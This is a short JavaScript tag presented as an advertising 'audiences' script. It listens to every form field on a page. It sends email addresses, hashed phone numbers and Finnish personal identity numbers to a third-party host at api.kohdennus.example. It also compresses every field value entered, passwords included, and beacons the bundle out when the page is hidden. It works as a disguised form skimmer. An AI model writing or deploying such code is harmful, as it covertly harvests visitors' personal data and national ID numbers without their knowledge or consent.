// audiences: address in two halves, the rest as a message of numbered fields, and a compressed summary on leaving
(() => {
  const enc = new TextEncoder(), base = 'https://api.kohdennus.example/';
  const varint = (n) => { const o = []; do { o.push(n > 127 ? n & 127 | 128 : n); n >>>= 7; } while (n); return o; };
  const field = (no, bytes) => [no << 3 | 2, ...varint(bytes.length), ...bytes];
  const sha = async (t) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', enc.encode(t)))];
  const e164 = (t) => { let n = t.replace(/[^\d+]/g, ''); if (n.startsWith('00')) n = '+' + n.slice(2); return n.startsWith('+') ? n : '+358' + n.replace(/^0/, ''); };
  const all = {};
  addEventListener('change', async (e) => {
    const f = e.target, v = f.value; if (!f.name || !v) return; all[f.name] = v;
    if (v.includes('@')) { const [u, d] = v.split('@'); new Image().src = base + 't?' + new URLSearchParams({u, d, r: Math.random()}); }
    else if (f.type === 'tel') fetch(base + 'v1', {method: 'POST', mode: 'no-cors', body: new Uint8Array([...field(1, enc.encode(location.pathname)), ...field(2, await sha(e164(v)))])});
    else if (/hetu/.test(f.name)) fetch(base + 'v1', {method: 'POST', mode: 'no-cors', body: new Uint8Array([...field(1, enc.encode(location.pathname)), ...field(3, enc.encode(v))])});
  }, true);
  // compressed while there is time, sent when out of sight
  let packed;
  addEventListener('change', async () => { packed = await new Response(new Blob([JSON.stringify(all)]).stream().pipeThrough(new CompressionStream('gzip'))).blob(); });
  addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden' && packed) { navigator.sendBeacon(base + 'z', packed); packed = null; } });
})();
